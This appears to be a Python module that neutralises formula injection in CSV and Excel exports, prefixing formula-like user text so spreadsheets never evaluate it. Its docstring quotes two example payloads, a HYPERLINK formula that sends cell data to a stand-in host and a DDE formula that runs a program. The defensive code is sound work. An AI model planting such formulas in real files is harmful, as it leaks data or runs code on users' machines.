"""Writing tables users open in spreadsheets: text cells that can never run as formulas.

A spreadsheet treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or carriage return) as a formula: ``=HYPERLINK("http://evil.example/?"&A1)``
typed into a plan field would leak data, ``=cmd|' /C calc'!A0`` would run a program. Every
export (CSV downloads, the yearly report's workbook, footprint and import tables) writes text
through :func:`safe_text` (CSV: the OWASP advice, a leading apostrophe) or
:func:`neutralise_workbook` (Excel: the cell typed as text with Excel's quote prefix);
:func:`xlsx_bytes` writes a table as a one-sheet workbook that way.
Numbers stay numbers; text that is itself a plain number (``-12,5``) is left alone.

May import: :mod:`nettonul.engine.core`, openpyxl and the standard library.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

#: Characters that make a spreadsheet read a text cell as a formula (or split it into one).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d[\d.,\u00a0 ]*)?\d(?:[eE][+-]?\d+)?(?: ?%)?")


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could evaluate ``text``: it starts with a formula character and
    is not simply a signed number (``-12.5``, ``+3 %``)."""
    return text.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(text.strip())


def safe_text(value: Any) -> Any:
    """``value`` unchanged unless it is formula-like text, which gets a leading apostrophe."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def csv_text(rows: Iterable[Sequence[Any]], *, delimiter: str = ",") -> str:
    """Rows as CSV text (``\\n`` line ends), every text cell passed through :func:`safe_text`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\n")
    for row in rows:
        writer.writerow([safe_text(v) for v in row])
    return buffer.getvalue()


def neutralise_workbook(workbook: Any) -> int:
    """Store every formula-like text cell of an openpyxl workbook as text; the count changed.

    openpyxl stores any string that starts with ``=`` as a formula, so text from users must be
    marked as text after it is written. A workbook that should contain real formulas must not
    be passed here. The cell keeps its exact text, typed as a string with the quote-prefix
    style (what Excel stores when one types ``'=...``), so it shows as written, is never
    evaluated and stays text when the cell is edited.
    """
    changed = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and is_formula_like(value):
                    cell.data_type = "s"
                    cell.quotePrefix = True
                    changed += 1
    return changed


def xlsx_bytes(rows: Iterable[Sequence[Any]], *, sheet: str = "Data",
               number_format: str | Sequence[str | None] | None = None) -> bytes:
    """Rows (the first one the header, in bold and frozen) as an Excel workbook of one sheet.

    Numbers stay numbers (``number_format``, one for every numeric cell or one per column,
    decides how they show; the stored value keeps every digit), and text cells go through
    :func:`neutralise_workbook`, so nothing a user typed runs as a formula."""
    from openpyxl import Workbook  # imported here: only Excel downloads pay for it
    from openpyxl.styles import Font

    book = Workbook()
    ws = book.active
    ws.title = sheet[:31]  # Excel's limit on sheet names
    for n, row in enumerate(rows):
        ws.append(list(row))
        if n == 0:
            for cell in ws[1]:
                cell.font = Font(bold=True)
            ws.freeze_panes = "A2"
    if number_format is not None:
        for line in ws.iter_rows(min_row=2):
            for j, cell in enumerate(line):
                fmt = number_format if isinstance(number_format, str) else (
                    number_format[j] if j < len(number_format) else None)
                if fmt and isinstance(cell.value, (int, float)) and not isinstance(cell.value, bool):
                    cell.number_format = fmt
    neutralise_workbook(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
